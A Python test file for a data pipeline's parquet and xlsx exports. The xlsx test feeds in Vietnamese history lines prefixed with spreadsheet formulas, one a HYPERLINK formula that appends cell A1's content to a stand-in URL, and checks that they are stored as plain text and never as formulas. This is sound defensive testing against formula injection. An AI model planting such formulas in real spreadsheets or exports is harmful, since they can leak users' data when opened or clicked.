"""--format parquet writes the same tables, with the same columns and values, as CSV."""
from __future__ import annotations

import pandas as pd

from pipeline.export.schema import TABLES
from tests.engine.helpers import make_corpus


def test_parquet_tables_equal_csv_tables(tmp_path):
    from pipeline.engine import run_batch
    from pipeline.process import Options

    corpus = tmp_path / "corpus"
    make_corpus(corpus, 3, chars=800)
    (corpus / "broken.txt").write_bytes(b"\x00\xff" * 64)
    run_batch([corpus], tmp_path / "csv", Options(), workers=1, progress=False)
    run_batch([corpus], tmp_path / "parquet", Options(), workers=1, progress=False, fmt="parquet")
    for name, columns in TABLES.items():
        parquet = pd.read_parquet(tmp_path / "parquet" / f"{name}.parquet")
        csv = pd.read_csv(tmp_path / "csv" / f"{name}.csv", dtype=str, keep_default_na=False)
        assert list(parquet.columns) == columns
        assert len(parquet) == len(csv) > 0 or name in ("corrections",)
        as_text = parquet.astype(object).where(parquet.notna(), "").astype(str)
        for column in ("applied", "year_inferred"):
            if column in as_text:
                as_text[column] = as_text[column].str.lower()
        for column in columns:
            if column in ("seconds", "score", "path"):
                continue
            assert list(as_text[column]) == list(csv[column]), (name, column)


def test_xlsx_holds_the_csv_values_and_no_formula(tmp_path):
    """Text that a spreadsheet would run as a formula (= + - @) is a string cell in the xlsx export."""
    from openpyxl import load_workbook

    from pipeline.engine import run_batch
    from pipeline.process import Options

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    hostile = ('=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây") Ngày 2-8-1914, Đức khai chiến với Nga.\n'
               "+1 tháng 9-1917, Lénine trở về.\n-2+3 Hội nghị Versailles họp.\n@SUM(A1:A9) Mùa đông 1915.\n"
               "Trang sau\x0cTháng 11-1918, chiến tranh kết thúc.\n")
    (corpus / "hostile.txt").write_text(hostile, encoding="utf-8")
    run_batch([corpus], tmp_path / "csv", Options(), workers=1, progress=False)
    run_batch([corpus], tmp_path / "xlsx", Options(), workers=1, progress=False, fmt="xlsx")
    for name, columns in TABLES.items():
        book = load_workbook(tmp_path / "xlsx" / f"{name}.xlsx")
        assert book.sheetnames == [name]
        rows = list(book[name].iter_rows())
        assert [cell.value for cell in rows[0]] == columns
        assert all(cell.data_type != "f" for row in rows for cell in row), name
        csv = pd.read_csv(tmp_path / "csv" / f"{name}.csv", dtype=str, keep_default_na=False)
        assert len(rows) - 1 == len(csv), name
        for row, expected in zip(rows[1:], csv.itertuples(index=False)):
            for cell, value, column in zip(row, expected, columns):
                if column not in ("seconds", "score", "path"):
                    shown = "" if cell.value is None else str(cell.value)
                    assert shown == value.replace("\x0c", "\u240c"), (name, column)
    sentences = [c.value for c in load_workbook(tmp_path / "xlsx" / "sentences.xlsx")["sentences"]["E"]]
    assert any(str(text).startswith('=HYPERLINK(') for text in sentences)
    assert any(str(text).startswith("-2+3 ") and "\n@SUM(" in str(text) for text in sentences)
